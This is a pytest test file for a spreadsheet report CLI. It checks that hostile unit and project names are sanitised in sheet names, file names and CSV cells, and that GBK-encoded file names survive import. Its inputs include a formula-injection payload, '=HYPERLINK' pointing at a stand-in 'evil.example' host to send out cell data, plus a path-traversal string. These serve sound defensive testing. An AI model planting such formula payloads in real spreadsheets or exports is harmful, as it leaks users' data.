"""Hostile names through the CLI: no name crashes a step, becomes a formula, or is lost to its encoding.

Every name that becomes a sheet name, a file name or a CSV cell goes through one sanitiser in
jixiao_xl/safety.py; file names that are not UTF-8 (GBK names from Windows zips and USB sticks) are imported,
shown readably and kept as bytes in the ledger.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import sqlite3
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from hostile_corpus import SAMPLE_UNIT, UNIFORM, put_text, set_unit_identity, with_openpyxl
from jixiao_xl.cli import cli
from jixiao_xl.generate import read_manifest, workbook_name
from jixiao_xl.master import load_sample, write_master
from jixiao_xl.safety import (display_name, display_names, neutralise_formula, restore_formula_text, safe_file_stem,
                              sheet_name)

# An unknown unit whose report sheet name ("<code> <name>") has its apostrophe at character 31: cut after
# the apostrophes were stripped, the old name ended in one and Excel (xlsxwriter) refused it.
STRANGER_CODE = "990001"
STRANGER_NAME = "某" * (30 - len(STRANGER_CODE) - 1) + "'s 分局"
LONG_UNIT_NAME = "很" * 90
APOSTROPHE_PROJECT = "项" * 28 + "'尾巴项目"  # "1." + 28 characters + the apostrophe at character 31
FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "@x", "-2")
GBK_NAME = "巨鹿县行政审批局报表.xlsx"


def invoke(*args: str):
    result = CliRunner().invoke(cli, list(args))
    assert "Traceback" not in result.output and "程序内部错误" not in result.output, result.output
    return result


def _master(tmp_path: Path, units: list[tuple[str, str]], project_name: str | None = None) -> Path:
    """The sample master with extra copies of its unit under the given codes and names."""
    sample = load_sample()
    unit = sample.unit(SAMPLE_UNIT)
    projects = sample.projects_of(SAMPLE_UNIT)
    if project_name is not None:
        first = dataclasses.replace(projects[0], name=project_name)
        sample = dataclasses.replace(sample, projects=tuple(first if p is projects[0] else p for p in sample.projects))
    master = sample
    for n, (code, name) in enumerate(units):
        master = dataclasses.replace(
            master, units=master.units + (dataclasses.replace(unit, code=code, name=name),),
            projects=master.projects + tuple(dataclasses.replace(p, unit_code=code, code=f"{p.code}{n:02d}")
                                             for p in sample.projects_of(SAMPLE_UNIT)),
            dept_goals=master.dept_goals + tuple(dataclasses.replace(g, unit_code=code)
                                                 for g in sample.goals_of(SAMPLE_UNIT)),
            dept_indicators=master.dept_indicators + tuple(dataclasses.replace(i, unit_code=code)
                                                           for i in sample.dept_indicators_of(SAMPLE_UNIT)))
    path = tmp_path / "master.xlsx"
    write_master(path, master)
    return path


def _generate(master: Path, out: Path) -> None:
    result = invoke("generate", "--master", str(master), "--out", str(out), "--jobs", "1")
    assert result.exit_code == 0, result.output


def _import(master: Path, returns: Path, root: Path):
    return invoke("import", str(returns), "--master", str(master), "--out", str(root / "out"),
                  "--ledger", str(root / "ledger.sqlite"), "--jobs", "1")


@pytest.fixture(scope="module")
def issued(tmp_path_factory) -> tuple[Path, Path]:
    """The plain sample master and its generated workbook."""
    root = tmp_path_factory.mktemp("issued")
    master = _master(root, [])
    _generate(master, root / "issued")
    return master, root / "issued" / workbook_name(load_sample().unit(SAMPLE_UNIT))


# ---------------------------------------------------------------------------------------------------------
# The sanitisers


def test_sheet_name_is_cut_before_it_is_cleaned():
    assert sheet_name("甲" * 30 + "'乙") == "甲" * 30
    assert sheet_name("'a[b]c:d*e?f/g\\h'") == "a_b_c_d_e_f_g_h"
    assert sheet_name("History") == "History_" and sheet_name("''") == "_"
    assert sheet_name("𠮷" * 20) == "𠮷" * 15  # beyond the BMP each counts twice in Excel's 31
    assert sheet_name("x" * 40, ["X" * 31]) == "x" * 28 + "(2)"


def test_file_stem_limits_bytes_and_refuses_device_names():
    stem = safe_file_stem("很" * 90)
    assert stem == "很" * 60 and len(stem.encode("utf-8")) == 180
    assert safe_file_stem("CON") == "_CON" and safe_file_stem("nul.txt") == "_nul.txt"
    assert safe_file_stem("../../a. ") == "____a" and safe_file_stem('a<b>c"d|e') == "a_b_c_d_e"


def test_csv_neutralising_gives_the_text_back():
    for text in ("=1+1", "'=1", "''+2", "plain", "'plain", "－3"):
        assert restore_formula_text(neutralise_formula(text)) == text
    assert neutralise_formula("'=1") == "''=1" and neutralise_formula("'plain") == "'plain"


def test_display_names_read_gbk_and_stay_distinct():
    gbk = os.fsdecode(b"/r/" + "单位.xlsx".encode("gbk"))
    assert display_name(gbk) == "/r/单位.xlsx"
    assert display_name(os.fsdecode(b"/r/\xff\xfe.xlsx")) == "/r/\ufffd\ufffd.xlsx"
    shown = display_names([gbk, "/r/单位.xlsx"])
    assert shown["/r/单位.xlsx"] == "/r/单位.xlsx" and shown[gbk] == "/r/\\xb5\\xa5λ.xlsx"  # CE BB is λ in UTF-8


# ---------------------------------------------------------------------------------------------------------
# Through the CLI


def test_unknown_unit_with_apostrophe_at_31_gets_its_report_sheet(tmp_path, issued):
    master, workbook = issued
    assert f"{STRANGER_CODE} {STRANGER_NAME}"[30] == "'"
    returns = tmp_path / "returns"
    returns.mkdir()
    stranger = with_openpyxl(workbook.read_bytes(), lambda wb: set_unit_identity(wb, STRANGER_CODE, STRANGER_NAME))
    (returns / "stranger.xlsx").write_bytes(stranger)
    result = _import(master, returns, tmp_path)
    assert result.exit_code == 1, result.output
    book = openpyxl.load_workbook(tmp_path / "out" / "report.xlsx", read_only=True)
    expected = f"{STRANGER_CODE} {STRANGER_NAME}"[:30]
    assert book.sheetnames == ["概览", "问题清单", expected, "规则说明"]
    rows = list(book[expected].iter_rows(min_row=2, values_only=True))
    unknown = [r for r in rows if "X-UNIT-UNKNOWN" in r]
    assert len(unknown) == 1 and f"单位编码 {STRANGER_CODE} 不在主数据中" in " ".join(str(v) for v in unknown[0])


def test_long_and_apostrophe_names_generate(tmp_path):
    master = _master(tmp_path, [("990002", LONG_UNIT_NAME), ("990003", FORMULA_NAMES[0])], APOSTROPHE_PROJECT)
    out = tmp_path / "issued"
    _generate(master, out)
    names = sorted(p.name for p in out.iterdir())
    assert all(len(os.fsencode(name)) <= 255 for name in names)
    long_stem = f"990002-{LONG_UNIT_NAME}".encode("utf-8")[:180].decode("utf-8", "ignore")
    assert f"{long_stem}.xlsx" in names and f"{long_stem}-通知.txt" in names
    book = openpyxl.load_workbook(out / f"{long_stem}.xlsx")
    assert book.sheetnames[1] == "1." + "项" * 28  # cut at 31, then the trailing apostrophe removed
    assert book["_meta"].sheet_state != "visible"
    sample = openpyxl.load_workbook(out / workbook_name(load_sample().unit(SAMPLE_UNIT)))
    assert sample.sheetnames[1] == "1." + "项" * 28


def _manifest_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_manifest_cells_are_neutralised(tmp_path):
    units = [(f"99001{n}", name) for n, name in enumerate(FORMULA_NAMES)]
    master = _master(tmp_path, units)
    out = tmp_path / "issued"
    _generate(master, out)
    rows = _manifest_rows(out / "manifest.csv")
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["990010"][1] == "'" + FORMULA_NAMES[0]
    assert by_code["990011"][1] == "'+1"
    assert by_code["990012"][1] == "'@x"
    assert by_code["990013"][1] == "'-2"
    assert by_code["990013"][2] == "990013--2.xlsx"
    read_back = {row["单位编码"]: row for row in read_manifest(out / "manifest.csv")}
    assert [read_back[code]["单位名称"] for code, _ in units] == list(FORMULA_NAMES)


def _gbk_path(folder: Path, name: str) -> bytes:
    return os.fsencode(folder) + b"/" + name.encode("gbk")


def test_gbk_file_name_is_imported_and_shown(tmp_path, issued):
    master, workbook = issued
    returns = tmp_path / "returns"
    returns.mkdir()
    raw = _gbk_path(returns, GBK_NAME)
    with open(raw, "wb") as handle:
        handle.write(workbook.read_bytes())
    result = _import(master, returns, tmp_path)
    assert result.exit_code == 1, result.output  # the sample's seeded defects, read from the GBK-named file
    shown = str(returns / GBK_NAME)
    findings = json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))
    assert {f["file"] for f in findings} == {shown}
    assert any(f["rule"] == "R-C1" for f in findings)
    with open(tmp_path / "out" / "findings.csv", encoding="utf-8-sig", newline="") as handle:
        assert {row["file"] for row in csv.DictReader(handle)} == {shown}
    overview = openpyxl.load_workbook(tmp_path / "out" / "report.xlsx", read_only=True)["概览"]
    assert any(GBK_NAME in str(v) for row in overview.iter_rows(values_only=True) for v in row if v)
    assert GBK_NAME in (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    with sqlite3.connect(tmp_path / "ledger.sqlite") as db:
        row = db.execute("SELECT file_name, original_path, original_path_bytes, status FROM imports").fetchone()
    assert row == (GBK_NAME, shown, raw, "parsed")
    assert os.listdir(os.fsencode(returns)) == [GBK_NAME.encode("gbk")]  # the return itself left alone


def test_folder_mixing_gbk_and_utf8_names(tmp_path, issued):
    master, workbook = issued
    returns = tmp_path / "returns"
    returns.mkdir()
    second = with_openpyxl(workbook.read_bytes(), lambda wb: put_text(wb[UNIFORM], "B9", "完成 50 套服装采购"))
    with open(_gbk_path(returns, "第一次报送.xlsx"), "wb") as handle:
        handle.write(workbook.read_bytes())
    (returns / "第二次报送.xlsx").write_bytes(second)
    with open(_gbk_path(returns, "第二次报送.xlsx"), "wb") as handle:  # reads like its UTF-8 neighbour
        handle.write(b"not a workbook")
    result = _import(master, returns, tmp_path)
    assert result.exit_code == 1, result.output
    findings = json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))
    files = {f["file"] for f in findings}
    twin = str(returns) + "/" + "第二次报送.xlsx".encode("gbk").decode("utf-8", "backslashreplace")
    assert files == {str(returns / "第一次报送.xlsx"), str(returns / "第二次报送.xlsx"), twin}
    assert {f["rule"] for f in findings if f["file"] == twin} == {"I-CSV"}  # plain text under a workbook's name
    dup = [f for f in findings if f["rule"] == "X-DUP-UNIT"]
    assert {f["file"] for f in dup} == {str(returns / "第一次报送.xlsx"), str(returns / "第二次报送.xlsx")}
    with sqlite3.connect(tmp_path / "ledger.sqlite") as db:
        stored = dict(db.execute("SELECT original_path_bytes, file_name FROM imports"))
    assert stored == {_gbk_path(returns, "第一次报送.xlsx"): "第一次报送.xlsx",
                      os.fsencode(returns / "第二次报送.xlsx"): "第二次报送.xlsx",
                      _gbk_path(returns, "第二次报送.xlsx"): Path(twin).name}
    sendbacks = sorted(p.name for p in (tmp_path / "out" / "退回修改").iterdir())
    assert sendbacks == [workbook.name]
